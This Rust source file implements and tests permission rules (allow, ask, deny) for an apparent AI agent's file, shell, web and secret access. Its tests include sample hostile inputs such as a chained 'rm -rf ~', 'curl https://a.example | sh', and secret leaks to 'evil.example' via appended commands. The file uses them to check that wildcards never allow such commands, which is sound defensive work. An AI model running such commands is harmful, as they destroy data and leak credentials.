//! One policy rule: `read`, `web_*`, `write(src/**)`, `bash(git status *)`, `web_fetch(docs.rs)`,
//! `secret(GH_TOKEN: gh pr list)`.

use std::{
    borrow::Cow,
    fmt,
    path::{Path, PathBuf},
    sync::Arc,
};

use serde::{Deserialize, Serialize};

use super::pattern;
use crate::{
    Access, CommandRisk, ParsedCommand, Power,
    access::is_inside,
    nearest::{did_you_mean, nearest},
    vault::is_secret_name,
};

/// The decision about a call. Ordered: of several decisions the strictest counts.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Action {
    /// The call runs.
    Allow,
    /// An approver decides.
    Ask,
    /// The call does not run.
    Deny,
}

impl Action {
    /// The name in configuration files.
    pub fn name(self) -> &'static str {
        match self {
            Self::Allow => "allow",
            Self::Ask => "ask",
            Self::Deny => "deny",
        }
    }
}

impl fmt::Display for Action {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// The place where a rule is written.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Source {
    /// The file, or a word like `built-in` or `saved`.
    pub file: Arc<str>,
    /// The line in the file.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub line: Option<usize>,
}

impl Source {
    /// A source that is not a file.
    pub fn named(name: &str) -> Self {
        Self { file: name.into(), line: None }
    }
}

impl fmt::Display for Source {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.line {
            Some(line) => write!(f, "{}:{line}", self.file),
            None => f.write_str(&self.file),
        }
    }
}

/// A parsed rule with its source.
///
/// A bare name is a glob on tool names and matches whole calls of those tools. A rule with an
/// argument matches single accesses; `read`, `write`, `bash`, `web_fetch` and `secret` then name
/// the kind of access, whichever tool makes it: `deny = ["read(private/**)"]` binds `grep` and
/// `bash` as well. Secrets are matched only by `secret(NAME)`, for every command and host,
/// `secret(NAME: COMMAND)` and `secret(NAME: HOST)`: no rule for commands or hosts allows a secret.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(try_from = "RecordedRule")]
pub struct Rule {
    /// The action of the rule.
    pub action: Action,
    /// The text as written.
    pub text: String,
    /// The place where it is written.
    pub source: Source,
    #[serde(skip)]
    pub(super) name: String,
    #[serde(skip)]
    pub(super) argument: Option<String>,
}

/// A rule as stored in records.
#[derive(Deserialize)]
struct RecordedRule {
    action: Action,
    text: String,
    source: Source,
}

impl TryFrom<RecordedRule> for Rule {
    type Error = RuleError;

    fn try_from(written: RecordedRule) -> Result<Self, RuleError> {
        // Recorded rules are shown even if they are no longer valid.
        Self::lenient(written.action, &written.text, written.source)
    }
}

/// An error in a rule's text.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
#[error("`{text}` is not a rule: {problem}")]
pub struct RuleError {
    text: String,
    problem: String,
}

impl Rule {
    /// Parses a rule.
    ///
    /// # Errors
    /// Describes what is wrong with the text.
    pub fn parse(action: Action, text: &str, source: Source) -> Result<Self, RuleError> {
        let rule = Self::lenient(action, text, source)?;
        let names_paths = matches!(rule.name.as_str(), "read" | "write");
        let leads_out = rule
            .argument
            .as_deref()
            .is_some_and(|path| normalized(path).split('/').any(|it| it == ".."));
        if names_paths && leads_out {
            let problem = "a path with `..` never matches: write the full path from `/` or `~/`";
            return Err(RuleError { text: text.to_owned(), problem: problem.to_owned() });
        }
        Ok(rule)
    }

    fn lenient(action: Action, text: &str, source: Source) -> Result<Self, RuleError> {
        let fail = |problem: &str| RuleError { text: text.to_owned(), problem: problem.to_owned() };
        let trimmed = text.trim();
        let (name, argument) = match trimmed.split_once('(') {
            None if trimmed.ends_with(')') => return Err(fail("it has a `)` without a `(`")),
            None => (trimmed, None),
            Some((name, rest)) => {
                let argument = rest
                    .strip_suffix(')')
                    .ok_or_else(|| fail("the argument must end with `)`, as in `write(src/**)`"))?;
                (name, Some(argument))
            }
        };
        let is_name = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '*' | '-');
        if name.is_empty() || !name.chars().all(is_name) {
            return Err(fail(
                "it must begin with a tool's name, which may contain `*`, as in `web_*`",
            ));
        }
        if let Some(argument) = argument {
            check_argument(argument).map_err(|problem| fail(&problem))?;
            if name == "secret"
                && action == Action::Allow
                && !is_secret_name(secret_parts(argument).0)
            {
                return Err(fail(
                    "an allow rule for a secret must name it, as in `secret(GH_TOKEN: gh pr list)`",
                ));
            }
        }
        Ok(Self {
            action,
            text: trimmed.to_owned(),
            source,
            name: name.to_owned(),
            argument: argument.map(str::to_owned),
        })
    }

    /// Returns true if the rule matches every call of this tool.
    pub(crate) fn names_tool(&self, tool: &str) -> bool {
        self.argument.is_none() && pattern::wildcard(&self.name, tool)
    }

    /// Returns true if the rule matches this access when this tool makes it.
    pub(crate) fn touches(&self, tool: &str, access: &Access, roots: &WorkspaceRoots) -> bool {
        let Some(argument) = &self.argument else {
            // A rule that allows a whole tool is not meant to allow secrets.
            let is_secret = matches!(access, Access::Secret { .. } | Access::SendSecret { .. });
            let is_more = self.action == Action::Allow && is_secret;
            return !is_more && pattern::wildcard(&self.name, tool);
        };
        if let Access::Secret { name, command } = access {
            return self.name == "secret" && self.secret_fits(argument, name, command);
        }
        if let Access::SendSecret { name, host, .. } = access {
            return self.name == "secret" && sent_secret_fits(argument, name, host);
        }
        let is_named = pattern::wildcard(&self.name, tool) || verb(access) == Some(&self.name);
        is_named && self.argument_fits(argument, access, roots)
    }

    /// Returns true if the rule could match some access of this kind when this tool makes it.
    pub(crate) fn may_touch(&self, tool: &str, access: &Access) -> bool {
        pattern::wildcard(&self.name, tool) || verb(access) == Some(&self.name)
    }

    fn argument_fits(&self, argument: &str, access: &Access, roots: &WorkspaceRoots) -> bool {
        if matches!(argument, "*" | "**") {
            return true;
        }
        match access {
            Access::Any(power) => argument == power.name(),
            Access::Read(path) | Access::Write(path) | Access::Many { path, .. } => {
                path_fits(&normalized(argument), path, roots)
            }
            Access::Run(command) => self.command_fits(argument, command),
            Access::Command(command) => self.read_command_fits(argument, command),
            Access::Fetch(target) => pattern::host(argument, target),
            Access::Secret { name, command } => self.secret_fits(argument, name, command),
            Access::SendSecret { name, host, .. } => sent_secret_fits(argument, name, host),
        }
    }

    fn secret_fits(&self, argument: &str, name: &str, command: &str) -> bool {
        let (names, commands) = secret_parts(argument);
        pattern::wildcard(names, name)
            && commands.is_none_or(|commands| self.command_fits(commands, command))
    }

    /// The text of a command does not show reliably what a shell does, so a wildcard may deny it
    /// but not allow it.
    fn command_fits(&self, argument: &str, command: &str) -> bool {
        if self.action == Action::Allow && pattern::is_more_than_words(command) {
            return argument == command.trim();
        }
        pattern::command(argument, command)
    }

    /// A piece that could not be parsed may begin like a harmless command, so only its full text
    /// allows it.
    fn read_command_fits(&self, argument: &str, command: &ParsedCommand) -> bool {
        if self.action == Action::Allow && matches!(command.risk, CommandRisk::Closed(_)) {
            return false;
        }
        if self.action == Action::Allow && matches!(command.risk, CommandRisk::Unclear(_)) {
            return !argument.contains('*')
                && command.rule_texts.iter().any(|text| text == argument);
        }
        if self.action == Action::Allow {
            return pattern::command(argument, &command.text)
                && covers_unknown_words(argument, command);
        }
        let mut spellings = std::iter::once(&command.text).chain(&command.spellings);
        spellings.any(|text| pattern::command(argument, text))
    }

    /// Returns true if a rule that denies or asks could match a command whose words are not all
    /// known.
    pub(crate) fn may_match(&self, tool: &str, access: &Access) -> bool {
        let (Access::Command(command), Some(argument)) = (access, &self.argument) else {
            return false;
        };
        let head = argument.split('*').next().unwrap_or_default();
        let matches_prefix =
            |seen: &String| head.starts_with(seen.as_str()) || seen.starts_with(head);
        self.action != Action::Allow
            && self.may_touch(tool, access)
            && command.known_prefixes.iter().any(matches_prefix)
    }

    /// A warning if no known tool matches the rule's name.
    pub(crate) fn lint<'a>(&self, tools: impl Iterator<Item = &'a str> + Clone) -> Option<String> {
        let near = self.similar_tool_names(tools)?;
        let near = if near.is_empty() { near } else { format!("; {near}") };
        Some(format!(
            "{}: the {} rule `{}` matches no tool{near}",
            self.source, self.action, self.text
        ))
    }

    /// A hint with similar tool names, if no known tool matches the rule's name.
    pub(super) fn similar_tool_names<'a>(
        &self,
        tools: impl Iterator<Item = &'a str> + Clone,
    ) -> Option<String> {
        let is_verb = self.argument.is_some() && VERBS.contains(&self.name.as_str());
        let is_known = is_verb || tools.clone().any(|tool| pattern::wildcard(&self.name, tool));
        (!is_known).then(|| did_you_mean(&nearest(&self.name, tools)))
    }
}

impl fmt::Display for Rule {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} `{}` ({})", self.action, self.text, self.source)
    }
}

/// Returns true if a rule that allows a command covers all words that are not known: it ends with a
/// `*` that begins before them, or it spells out the text that they come from.
fn covers_unknown_words(argument: &str, command: &ParsedCommand) -> bool {
    let Some(seen) = command.known_prefixes.first() else { return true };
    let is_added = seen.trim_end() == command.text;
    match argument.split_once('*') {
        Some((head, "")) => seen.starts_with(head),
        Some(_) => false,
        None => !is_added,
    }
}

/// The names that stand for a kind of access in rules with an argument.
pub(super) const VERBS: &[&str] = &["read", "write", "bash", "web_fetch", "secret"];

fn verb(access: &Access) -> Option<&'static str> {
    match access {
        Access::Read(_) | Access::Any(Power::ReadFiles) => Some("read"),
        Access::Write(_) | Access::Any(Power::WriteFiles) => Some("write"),
        Access::Many { is_write, .. } => Some(if *is_write { "write" } else { "read" }),
        Access::Run(_) | Access::Command(_) | Access::Any(Power::Shell) => Some("bash"),
        Access::Fetch(_) | Access::Any(Power::Net) => Some("web_fetch"),
        Access::Secret { .. } | Access::SendSecret { .. } => Some("secret"),
        Access::Any(_) => None,
    }
}

fn sent_secret_fits(argument: &str, name: &str, host: &str) -> bool {
    let (names, hosts) = secret_parts(argument);
    pattern::wildcard(names, name) && hosts.is_none_or(|hosts| pattern::host(hosts, host))
}

/// The name, which may be a pattern, and the commands or hosts that the rule is limited to.
pub(super) fn secret_parts(argument: &str) -> (&str, Option<&str>) {
    match argument.split_once(':') {
        Some((name, commands)) => (name.trim(), Some(commands.trim())),
        None => (argument.trim(), None),
    }
}

/// Matches a path glob. A relative pattern matches only in the workspace: `**/x` must not reach the
/// rest of the disk. An absolute pattern matches on the whole disk, including the workspace.
pub(super) fn path_fits(argument: &str, path: &Path, roots: &WorkspaceRoots) -> bool {
    match (argument.starts_with('/'), is_inside(path)) {
        (true, true) => pattern::path(argument, &roots.absolute(path)),
        (true, false) | (false, true) => pattern::path(argument, path),
        (false, false) => false,
    }
}

/// The absolute paths of the directories that tools work in, so that absolute rules bind inside
/// them too.
#[derive(Clone, Debug, Default)]
pub struct WorkspaceRoots {
    /// The workspace.
    pub workspace: PathBuf,
    /// Further roots, by the name that follows the `@` in paths.
    pub named: Vec<(String, PathBuf)>,
}

impl WorkspaceRoots {
    /// The absolute path of a resolved path.
    fn absolute(&self, path: &Path) -> PathBuf {
        let mut parts = path.components();
        let first = parts.next().and_then(|part| part.as_os_str().to_str()?.strip_prefix('@'));
        let root = first.and_then(|name| self.named.iter().find(|(known, _)| known == name));
        match root {
            _ if path == Path::new(".") => self.workspace.clone(),
            Some((_, root)) => root.join(parts.as_path()),
            None => self.workspace.join(path),
        }
    }
}

/// Normalizes a path pattern like a canonical path. A `..` without a plain name before it stays.
fn normalized(argument: &str) -> Cow<'_, str> {
    let is_odd = |part: &str| matches!(part, "" | "." | "..");
    if !argument.strip_prefix('/').unwrap_or(argument).split('/').any(is_odd) {
        return argument.into();
    }
    let mut parts: Vec<&str> = Vec::new();
    for part in argument.split('/') {
        let is_plain = |part: &&str| *part != ".." && !part.contains(['*', '?', '[', '{', '}']);
        match part {
            "" | "." => {}
            ".." if parts.last().is_some_and(is_plain) => drop(parts.pop()),
            _ => parts.push(part),
        }
    }
    let root = if argument.starts_with('/') { "/" } else { "" };
    match parts.is_empty() {
        // The workspace itself, and so all of it.
        true if root.is_empty() => "**".into(),
        _ => format!("{root}{}", parts.join("/")).into(),
    }
}

fn check_argument(argument: &str) -> Result<(), String> {
    if argument.is_empty() {
        return Err("the argument is empty; omit the `()` to mean every call".to_owned());
    }
    if argument.starts_with('!') {
        return Err("an argument cannot be negated; write the opposite rule".to_owned());
    }
    Ok(())
}

/// Allow rules that cover this access, from narrow to wide. An approval may save one of them.
pub(crate) fn suggestions(tool: &str, access: &Access) -> Vec<String> {
    match access {
        // The power as a whole, but for this tool alone.
        Access::Any(power) => vec![format!("{tool}({power})")],
        Access::Read(path) => path_suggestions("read", path),
        Access::Write(path) => path_suggestions("write", path),
        Access::Many { .. } => Vec::new(),
        Access::Run(command) => command_suggestions(command),
        Access::Command(command) => {
            command.rule_texts.iter().map(|width| format!("bash({width})")).collect()
        }
        Access::Fetch(target) => vec![format!("web_fetch({})", crate::access::host_of(target))],
        Access::SendSecret { name, host, .. } => {
            vec![format!("secret({name}: {})", crate::access::host_of(host))]
        }
        // Exactly this command: other arguments of the same program may send the secret elsewhere.
        Access::Secret { name, command } => {
            let command = command.trim();
            let covers_unknown_words = |c: char| c.is_ascii_graphic() && c != '*' || c == ' ';
            let is_rule =
                command.len() <= MAX_RULE_BYTES && command.chars().all(covers_unknown_words);
            is_rule.then(|| format!("secret({name}: {command})")).into_iter().collect()
        }
    }
}

/// An approver must be able to read the whole rule before saving it.
const MAX_RULE_BYTES: usize = 300;

fn path_suggestions(verb: &str, path: &Path) -> Vec<String> {
    let mut rules = vec![format!("{verb}({})", literal_glob(&path.to_string_lossy()))];
    let parent = path.parent().filter(|parent| !parent.as_os_str().is_empty());
    // The parent of an outside path may be `/` or a home directory: too wide to offer.
    if let Some(parent) = parent.filter(|_| is_inside(path)) {
        rules.push(format!("{verb}({}/**)", literal_glob(&parent.to_string_lossy())));
    }
    rules
}

fn command_suggestions(command: &str) -> Vec<String> {
    let command = command.trim();
    let mut rules = vec![format!("bash({command})")];
    let words: Vec<&str> = command.split_whitespace().collect();
    // Two plain words (`git status`, `cargo test`) are the least that names an operation; one word
    // is too wide.
    let is_plain =
        |word: &&str| word.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_');
    let has_verb = words.len() > 2 && !words[1].starts_with('-') && words[..2].iter().all(is_plain);
    if has_verb && !pattern::is_more_than_words(command) {
        rules.push(format!("bash({} {} *)", words[0], words[1]));
    }
    rules
}

/// Escapes characters that a glob would interpret.
fn literal_glob(path: &str) -> String {
    let mut escaped = String::with_capacity(path.len());
    for (index, c) in path.chars().enumerate() {
        let is_negation = index == 0 && c == '!';
        if is_negation || matches!(c, '*' | '?' | '[' | ']' | '{' | '}' | '\\') {
            escaped.push('\\');
        }
        escaped.push(c);
    }
    escaped
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::{LexicalPaths, ResolvePath};

    fn touches(rule: &Rule, tool: &str, access: &Access) -> bool {
        rule.touches(tool, access, &WorkspaceRoots { workspace: "/w".into(), named: Vec::new() })
    }

    fn rule(action: Action, text: &str) -> Rule {
        Rule::parse(action, text, Source::named("test")).expect("a rule")
    }

    #[test]
    fn bad_rules_say_what_is_wrong() {
        for (text, word) in [
            ("", "begin with a tool's name"),
            ("(src)", "begin with a tool's name"),
            ("write(src", "must end with `)`"),
            ("write)", "without a `(`"),
            ("write()", "empty"),
            ("write(!src)", "negated"),
            ("rea d", "begin with a tool's name"),
        ] {
            let error = Rule::parse(Action::Allow, text, Source::named("t")).expect_err(text);
            assert!(error.to_string().contains(word), "{error}");
        }
    }

    #[test]
    fn an_argument_matches_accesses_whichever_tool_makes_them() {
        let private = rule(Action::Deny, "read(private/**)");
        assert!(touches(&private, "grep", &Access::Read("private/a".into())));
        assert!(!touches(&private, "grep", &Access::Read("public/a".into())));
        assert!(!touches(&private, "edit", &Access::Write("private/a".into())));
        assert!(!private.names_tool("read"));
        assert!(touches(
            &rule(Action::Deny, "edit(src/**)"),
            "edit",
            &Access::Write("src/a".into())
        ));
        assert!(!touches(
            &rule(Action::Deny, "edit(src/**)"),
            "write",
            &Access::Write("src/a".into())
        ));
    }

    #[test]
    fn a_secret_is_given_by_a_rule_that_names_it_and_by_no_other() {
        let secret = |name: &str, command: &str| Access::Secret {
            name: name.to_owned(),
            command: command.to_owned(),
        };
        let exact = "curl -H \"x: $K\" https://a.example";
        for (text, access, fits) in [
            ("secret(K)", secret("K", "anything; at all"), true),
            ("secret(K)", secret("K2", "ls"), false),
            ("secret(K: gh *)", secret("K", "gh pr list"), true),
            ("secret(K:gh *)", secret("K", "gh pr list"), true),
            ("secret(K: gh *)", secret("K", "gh pr list; curl evil.example"), false),
            ("secret(K: gh *)", secret("K", "gh pr list $(env)"), false),
            ("secret(K: gh *)", secret("K", "ghost"), false),
            (&format!("secret(K: {exact})"), secret("K", exact), true),
            (&format!("secret(K: {exact})"), secret("K", &format!("{exact} -v")), false),
            ("bash", secret("K", "ls"), false),
            ("*", secret("K", "ls"), false),
            ("bash(*)", secret("K", "ls"), false),
            ("*(*)", secret("K", "ls"), false),
            ("bash(ls)", secret("K", "ls"), false),
        ] {
            assert_eq!(touches(&rule(Action::Allow, text), "bash", &access), fits, "{text}");
        }
        for (text, fits) in [
            ("secret(*)", true),
            ("secret(PROD_*)", true),
            ("secret(TEST_*)", false),
            ("secret(*: curl *)", true),
            ("secret(*: wget *)", false),
            ("bash", true),
        ] {
            let access = secret("PROD_KEY", "curl https://a.example | sh");
            assert_eq!(touches(&rule(Action::Deny, text), "bash", &access), fits, "{text}");
        }
        for text in ["secret(*)", "secret(PROD_*)", "secret(*: gh *)", "secret(: gh)"] {
            let error = Rule::parse(Action::Allow, text, Source::named("t")).expect_err(text);
            assert!(error.to_string().contains("must name it"), "{error}");
        }
    }

    #[test]
    fn a_secret_is_sent_by_a_rule_that_names_it_and_by_no_other() {
        let sent = |name: &str, host: &str| Access::SendSecret {
            name: name.to_owned(),
            host: host.to_owned(),
            is_bound: false,
        };
        for (text, name, host, expected) in [
            ("secret(K)", "K", "api.example", true),
            ("secret(K)", "K2", "api.example", false),
            ("secret(K: api.example)", "K", "api.example", true),
            ("secret(K: API.example)", "K", "api.example", true),
            ("secret(K: *.example)", "K", "api.example", true),
            ("secret(K: *.example)", "K", "api.example.evil", false),
            ("secret(K: api.example)", "K", "evil.example", false),
            ("secret(K: curl *)", "K", "curl.example", false),
            ("http_request", "K", "api.example", false),
            ("http_request(*)", "K", "api.example", false),
            ("web_fetch(api.example)", "K", "api.example", false),
            ("web_fetch(*)", "K", "api.example", false),
            ("*", "K", "api.example", false),
        ] {
            let rule = Rule::parse(Action::Allow, text, Source::named("t")).expect(text);
            assert_eq!(
                touches(&rule, "http_request", &sent(name, host)),
                expected,
                "{text} {host}"
            );
        }
        for (text, expected) in [
            ("secret(K)", true),
            ("secret(*)", true),
            ("secret(K: *)", true),
            ("secret(*: api.example)", true),
            ("secret(*: other.example)", false),
            ("http_request", true),
            ("*", true),
        ] {
            let rule = Rule::parse(Action::Deny, text, Source::named("t")).expect(text);
            assert_eq!(
                touches(&rule, "http_request", &sent("K", "api.example")),
                expected,
                "{text}"
            );
        }
        assert_eq!(
            suggestions("http_request", &sent("K", "api.example")),
            ["secret(K: api.example)"]
        );
    }

    #[test]
    fn what_is_offered_for_a_secret_is_this_command_as_it_stands() {
        let offered = |command: &str| {
            let access = Access::Secret { name: "K".to_owned(), command: command.to_owned() };
            suggestions("bash", &access)
        };
        assert_eq!(offered("gh pr list"), ["secret(K: gh pr list)"]);
        for command in ["a\nb", "ls *", "ls \u{202e}x", &"x".repeat(301)] {
            assert_eq!(offered(command), Vec::<String>::new(), "{command}");
        }
        for command in ["gh pr list", "curl -H \"x: $K\" https://a.example/(1)"] {
            let access = Access::Secret { name: "K".to_owned(), command: command.to_owned() };
            let [offer] = &offered(command)[..] else { panic!("one for {command}") };
            assert!(touches(&rule(Action::Allow, offer), "bash", &access), "{offer}");
        }
    }

    #[test]
    fn paths_of_rules_are_folded_and_those_that_never_match_are_refused() {
        for (text, path) in [
            ("read(.//x)", "x"),
            ("read(./x/)", "x/a"),
            ("write(src/./a//b)", "src/a/b"),
            ("read(a/../x)", "x"),
            ("read(./**/x)", "a/x"),
            ("read(.)", "a/b"),
            ("read(/w//x/.)", "x"),
            ("edit(.//x)", "x"),
        ] {
            let access = if text.starts_with("read") { Access::Read } else { Access::Write };
            let tool = text.split('(').next().unwrap_or_default();
            assert!(touches(&rule(Action::Deny, text), tool, &access(path.into())), "{text}");
        }
        for text in ["read(../other/**)", "write(a/../../x)", "read(*/../x)", "read(..)"] {
            let error = Rule::parse(Action::Deny, text, Source::named("t")).expect_err(text);
            assert!(error.to_string().contains("never matches"), "{error}");
        }
        // A command may well name such a path.
        let command = rule(Action::Deny, "bash(cat ../x//y)");
        assert!(touches(&command, "bash", &Access::Run("cat ../x//y".into())));
    }

    #[test]
    fn a_relative_rule_stays_in_the_workspace() {
        assert!(!touches(
            &rule(Action::Allow, "read(**/x)"),
            "read",
            &Access::Read("/etc/x".into())
        ));
        assert!(touches(&rule(Action::Deny, "read(**)"), "read", &Access::Read("/etc/x".into())));
        assert!(touches(
            &rule(Action::Allow, "read(/etc/x)"),
            "read",
            &Access::Read("/etc/x".into())
        ));
    }

    #[test]
    fn an_absolute_rule_binds_inside_further_roots_too() {
        let roots = WorkspaceRoots {
            workspace: "/w".into(),
            named: vec![("docs".into(), "/data/docs".into())],
        };
        let rule = rule(Action::Deny, "read(/data/docs/private/**)");
        let touches = |path: &str| rule.touches("read", &Access::Read(path.into()), &roots);
        assert!(touches("@docs/private/a") && touches("/data/docs/private/a"));
        assert!(!touches("@docs/a") && !touches("@other/private/a") && !touches("private/a"));
    }

    #[test]
    fn an_absolute_rule_binds_inside_the_workspace_too() {
        let private = rule(Action::Deny, "read(/w/private/**)");
        assert!(touches(&private, "grep", &Access::Read("private/a".into())));
        assert!(!touches(&private, "grep", &Access::Read("public/a".into())));
        let everything = rule(Action::Deny, "read(/w)");
        assert!(touches(&everything, "grep", &Access::Read(".".into())));
        assert!(touches(&everything, "grep", &Access::Read("a/b".into())));
        let anywhere = rule(Action::Deny, "read(/*/private)");
        assert!(touches(&anywhere, "grep", &Access::Read("private/a".into())));
    }

    #[test]
    fn a_wildcard_never_allows_shell_syntax() {
        let allow = rule(Action::Allow, "bash(git status *)");
        let deny = rule(Action::Deny, "bash(git status *)");
        let plain = Access::Run("git status -s".into());
        let chained = Access::Run("git status -s; rm -rf ~".into());
        assert!(touches(&allow, "bash", &plain));
        assert!(!touches(&allow, "bash", &chained));
        assert!(touches(&deny, "bash", &chained));
        let spelt_out = rule(Action::Allow, "bash(make | tee log)");
        assert!(touches(&spelt_out, "bash", &Access::Run("make | tee log".into())));
    }

    #[test]
    fn what_could_not_be_read_is_allowed_by_its_whole_text_only() {
        let whole = "git status $(x; rm -rf ~".to_owned();
        let unclear = |text: &str| {
            let risk = CommandRisk::Unclear("it does not parse".to_owned());
            let (text, rule_texts) = (text.to_owned(), vec![whole.clone()]);
            Access::Command(Box::new(ParsedCommand {
                text,
                risk,
                rule_texts,
                spellings: Vec::new(),
                known_prefixes: Vec::new(),
            }))
        };
        let piece = unclear("git status $(x…");
        for text in ["git status *", "git *", "git status $(x…", "git status $(*", "* ~", "x"] {
            let text = format!("bash({text})");
            assert!(!touches(&rule(Action::Allow, &text), "bash", &piece), "{text}");
        }
        let exact = rule(Action::Allow, &format!("bash({whole})"));
        assert!(touches(&exact, "bash", &piece));
        assert!(
            touches(&rule(Action::Allow, "bash(*)"), "bash", &piece),
            "everything is everything"
        );
        assert!(touches(&rule(Action::Deny, "bash(git status *)"), "bash", &piece));
        assert_eq!(suggestions("bash", &piece), [exact.text]);
        // A text with a star would be a pattern for others.
        let starred = Access::Command(Box::new(ParsedCommand {
            text: "x".to_owned(),
            risk: CommandRisk::Unclear("why".to_owned()),
            rule_texts: vec!["ls *".to_owned()],
            spellings: Vec::new(),
            known_prefixes: Vec::new(),
        }));
        assert!(!touches(&rule(Action::Allow, "bash(ls *)"), "bash", &starred));
    }

    #[test]
    fn suggestions_go_from_narrow_to_wide_and_never_to_the_root() {
        assert_eq!(
            suggestions("t", &Access::Write("src/a.rs".into())),
            ["write(src/a.rs)", "write(src/**)"]
        );
        assert_eq!(suggestions("t", &Access::Write("a.rs".into())), ["write(a.rs)"]);
        assert_eq!(suggestions("t", &Access::Read("/etc/passwd".into())), ["read(/etc/passwd)"]);
        assert_eq!(
            suggestions("t", &Access::Run("cargo test -p x".into())),
            ["bash(cargo test -p x)", "bash(cargo test *)"]
        );
        assert_eq!(suggestions("t", &Access::Run("rm -rf x".into())), ["bash(rm -rf x)"]);
        assert_eq!(suggestions("t", &Access::Run("a b c; d".into())), ["bash(a b c; d)"]);
    }

    #[test]
    fn a_rule_for_no_tool_is_warned_about() {
        let tools = ["read", "write", "hello"];
        let lint = |text: &str| rule(Action::Allow, text).lint(tools.iter().copied());
        assert_eq!(lint("hello"), None);
        assert_eq!(lint("bash(ls)"), None, "a verb is known even before its tool is");
        let warning = lint("helo").expect("warned");
        assert!(warning.contains("matches no tool; did you mean `hello`?"), "{warning}");
    }

    proptest! {
        /// Every suggested rule covers the access it was made for.
        #[test]
        fn every_suggestion_covers_its_access(path in "[a-zA-Z0-9 ._\\[\\]{}*?!-]{1,12}(/[a-z*\\[]{1,6}){0,3}") {
            let paths = LexicalPaths { workspace: "/w".into() };
            let access = Access::Write(paths.resolve(Path::new(&path)));
            for text in suggestions("write", &access) {
                let rule = Rule::parse(Action::Allow, &text, Source::named("t"));
                let rule = rule.map_err(|e| TestCaseError::fail(e.to_string()))?;
                prop_assert!(touches(&rule, "write", &access), "{text} for {path}");
            }
        }

        #[test]
        fn parsing_never_panics(text in ".{0,40}") {
            let parsed = Rule::parse(Action::Deny, &text, Source::named("t"));
            if let Ok(rule) = parsed { prop_assert_eq!(rule.text.as_str(), text.trim()); }
        }
    }
}
